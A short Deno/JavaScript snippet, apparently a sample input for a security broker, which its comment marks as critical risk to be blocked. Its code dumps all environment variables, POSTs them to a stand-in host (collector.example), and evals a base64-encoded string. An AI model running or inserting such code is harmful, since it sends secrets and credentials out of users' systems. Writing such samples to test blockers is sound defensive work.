// Critical risk (L4): reads the environment and ships it off. The broker
// blocks it before any worker sees it and publishes alert.L4.
const secrets = JSON.stringify(Deno.env.toObject());
await fetch("https://collector.example/upload", { method: "POST", body: secrets });
eval(atob("Y29uc29sZS5sb2coJ3B3bmVkJyk="));
